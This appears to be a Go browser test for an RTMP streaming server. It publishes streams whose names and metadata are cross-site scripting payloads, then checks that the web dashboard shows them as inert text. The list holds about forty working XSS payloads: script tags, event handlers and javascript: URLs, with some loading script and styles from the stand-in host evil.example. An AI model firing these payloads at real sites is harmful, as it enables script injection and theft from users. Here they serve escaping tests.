package browser

import (
	"fmt"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/AgustinSRG/rtmp-server/internal/amf"
	"github.com/AgustinSRG/rtmp-server/internal/rtmp"
	"github.com/AgustinSRG/rtmp-server/test/stage"
)

// payloads are what pages that make markup of text execute.
var payloads = []string{
	`<script>alert(1)</script>`,
	`</script><script>alert(2)</script>`,
	`"><script src=https://evil.example/x.js></script>`,
	`<img src=x onerror=alert(4)>`,
	`"><img src=x onerror="alert(5)">`,
	`'><img src='x' onerror='alert(6)'>`,
	`<svg onload=alert(7)>`,
	`<svg><script>alert(8)</script></svg>`,
	`<svg><animate onbegin=alert(9) attributeName=x dur=1s>`,
	`<svg><use href="data:image/svg+xml,<svg id=x onload=alert(10)>#x"/></svg>`,
	`<iframe srcdoc="<script>parent.alert(11)</script>">`,
	`<iframe src=javascript:alert(12)></iframe>`,
	`<object data=javascript:alert(13)></object>`,
	`<embed src=javascript:alert(14)>`,
	`<body onload=alert(15)>`,
	`<details open ontoggle=alert(16)>`,
	`<video><source onerror=alert(17)></video>`,
	`<audio src=x onerror=alert(18)>`,
	`<input autofocus onfocus=alert(19)>`,
	`<select autofocus onfocus=alert(20)>`,
	`<marquee onstart=alert(21)>x</marquee>`,
	`<a href=javascript:alert(22)>click</a>`,
	`<form action=javascript:alert(23)><button>x</button></form>`,
	`<base href=https://evil.example/>`,
	`<link rel=stylesheet href=https://evil.example/x.css>`,
	`<style>@import url(https://evil.example/y.css);*{display:none}</style>`,
	`<meta http-equiv=refresh content="0;url=https://evil.example/">`,
	`<math><mi xlink:href="javascript:alert(28)">x</mi></math>`,
	`<template><img src=x onerror=alert(29)></template>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(30)>">`,
	`javascript:alert(31)`,
	`'-alert(32)-'`,
	`";alert(33);//`,
	"`${alert(34)}`",
	`{{constructor.constructor('alert(35)')()}}`,
	`<!--><img src=x onerror=alert(36)>-->`,
	`<img src=https://evil.example/pixel.gif?37>`,
	`&lt;img src=x onerror=alert(38)&gt;`,
	"\u2028</title>\u202e<script>alert(39)</script>\u2029",
	`\u003cimg src=x onerror=alert(40)\u003e<p style=position:fixed;inset:0>`,
}

// call connects as a client of a name.
func call(t *testing.T, s *stage.Server, app, client string) *stage.Client {
	t.Helper()
	c, err := stage.DialFrom(t, "", s.Addr)
	if err != nil {
		t.Fatal(err)
	}
	if err := c.Conn.SetDeadline(time.Now().Add(2 * patience)); err != nil { // longer than a browser takes
		t.Fatal(err)
	}
	if _, err := c.Connect(rtmp.ConnectOptions{App: app, TCURL: "rtmp://" + s.Addr + "/" + app, FlashVersion: client}); err != nil {
		_ = c.Conn.Close()
		return nil
	}
	if c.Stream, err = c.CreateStream(); err != nil {
		t.Fatal(err)
	}
	return c
}

// metadata says the same of everything.
func metadata(payload string) []byte {
	b := amf.Append(amf.Append(nil, "@setDataFrame"), "onMetaData")
	about := amf.ECMAArray{{Name: payload, Value: payload}}
	for _, name := range []string{"encoder", "title", "videocodecid", "audiocodecid", "width", "height", "framerate", "audiosamplerate"} {
		about = append(about, amf.Property{Name: name, Value: payload})
	}
	return amf.Append(b, about)
}

// sound keeps publications alive until stop is closed.
func sound(t *testing.T, publishers []*stage.Client, stop <-chan struct{}) {
	send := func(at uint32, payload []byte) {
		for _, c := range publishers {
			if err := c.WriteMessage(rtmp.Message{Type: rtmp.TypeAudio, Stream: c.Stream, Timestamp: at, Payload: payload}); err != nil {
				t.Errorf("a publisher cannot go on: %v", err)
			}
		}
	}
	send(0, []byte{0xaf, 0, 0x12, 0x10})
	tick := time.NewTicker(500 * time.Millisecond)
	defer tick.Stop()
	for at := uint32(500); ; at += 500 {
		select {
		case <-stop:
			return
		case <-tick.C:
			send(at, []byte{0xaf, 1, 0x21, 0x10})
		}
	}
}

// unseen reports which payloads are in none of the texts.
func unseen(texts []string) []string {
	return slices.DeleteFunc(slices.Clone(payloads), func(payload string) bool {
		return slices.ContainsFunc(texts, func(text string) bool { return strings.Contains(text, payload) })
	})
}

func TestWhatClientsSayOfThemselvesStaysText(t *testing.T) {
	if len(payloads) < 40 {
		t.Fatalf("these are %d payloads", len(payloads))
	}
	s, url := serve(t, "PUBLISH_GRACE_SECONDS=0")
	var publishers, players []*stage.Client
	for i, payload := range payloads {
		// No channel or key has such a name.
		if c := call(t, s, payload, payload); c != nil && c.Publish(c.Stream, payload) == nil {
			t.Errorf("a channel is named %s", payload)
		}
		publisher := call(t, s, fmt.Sprintf("channel-%02d", i), payload)
		if err := publisher.Publish(publisher.Stream, "key"); err != nil {
			t.Fatal(err)
		}
		err := publisher.WriteMessage(rtmp.Message{Type: rtmp.TypeData, Stream: publisher.Stream, Payload: metadata(payload)})
		if err != nil {
			t.Fatal(err)
		}
		publisher.Record()
		publishers = append(publishers, publisher)
		player := call(t, s, "channel-00", payload)
		if err := player.Play(player.Stream, "key"); err != nil {
			t.Fatal(err)
		}
		player.Record()
		players = append(players, player)
	}
	stop, stopped := make(chan struct{}), make(chan struct{})
	go func() {
		defer close(stopped)
		sound(t, publishers, stop)
	}()

	w := start(t, "hostile", url, "channel-00", strconv.Itoa(len(publishers)+len(players)))
	var live struct{ Facts, Viewers, Rows, Foreign []string }
	w.await(1, "live", &live)
	close(stop)
	<-stopped
	for what, texts := range map[string][]string{"viewers": live.Viewers, "channels": live.Rows} {
		if missing := unseen(texts); len(missing) > 0 {
			t.Errorf("the %s do not show %q, but %q", what, missing, texts)
		}
	}
	if !slices.Contains(live.Facts, payloads[0]) {
		t.Errorf("the details are %q", live.Facts)
	}
	for _, c := range append(publishers, players...) {
		_ = c.Conn.Close()
	}
	var ended struct{ Ends, Foreign, Wrong []string }
	w.await(1, "ended", &ended)
	if missing := unseen(ended.Ends); len(missing) > 0 {
		t.Errorf("the ends do not show %q, but %q", missing, ended.Ends)
	}
	if len(live.Foreign)+len(ended.Foreign)+len(ended.Wrong) > 0 {
		t.Errorf("the page has %q, then %q, and did %q", live.Foreign, ended.Foreign, ended.Wrong)
	}
	var noticed struct{ Inner, Foreign, Wrong []string }
	w.await(1, "noticed", &noticed)
	if !slices.Equal(noticed.Inner, []string{"TypeError", "TypeError"}) || len(noticed.Foreign) == 0 || len(noticed.Wrong) == 0 {
		t.Errorf("it would not be noticed: %+v", noticed)
	}
	w.finish()
}
